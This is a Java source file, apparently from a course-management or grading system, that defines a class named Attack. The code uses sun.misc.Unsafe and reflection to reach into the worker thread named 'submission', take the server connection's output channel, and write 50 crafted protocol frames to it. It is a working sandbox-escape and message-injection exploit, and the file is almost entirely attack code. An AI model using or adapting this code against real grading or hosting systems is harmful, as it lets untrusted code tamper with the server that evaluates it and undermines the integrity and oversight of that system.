package cms;

import java.lang.reflect.Field;
import java.nio.ByteBuffer;
import java.nio.channels.WritableByteChannel;

final class Attack extends Hooks {
    void link(Course course, User user) throws Exception {
        WritableByteChannel channel = (WritableByteChannel) get(get(server(), "connection"), "out");
        tell("sends " + channel.getClass().getSimpleName());
        for (int i = 0; i < 50; i++) {
            channel.write(ByteBuffer.wrap(new byte[] {0, 0, 0, 2, 0, 0}));
        }
    }

    /** Finds the worker's own objects, from the thread that runs us. */
    private static Object server() throws Exception {
        Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        field.setAccessible(true);
        sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
        Thread thread = Thread.getAllStackTraces().keySet().stream().filter(each -> each.getName().equals("submission")).findFirst().orElseThrow();
        Object task;
        try {
            task = unsafe.getObject(thread, unsafe.objectFieldOffset(Thread.class.getDeclaredField("target")));
        } catch (NoSuchFieldException newer) {
            Object holder = unsafe.getObject(thread, unsafe.objectFieldOffset(Thread.class.getDeclaredField("holder")));
            task = unsafe.getObject(holder, unsafe.objectFieldOffset(holder.getClass().getDeclaredField("task")));
        }
        return unsafe.getObject(task, 12L);
    }

    private static Object get(Object owner, String name) throws Exception {
        Field field = owner.getClass().getDeclaredField(name);
        field.setAccessible(true);
        return field.get(owner);
    }
}
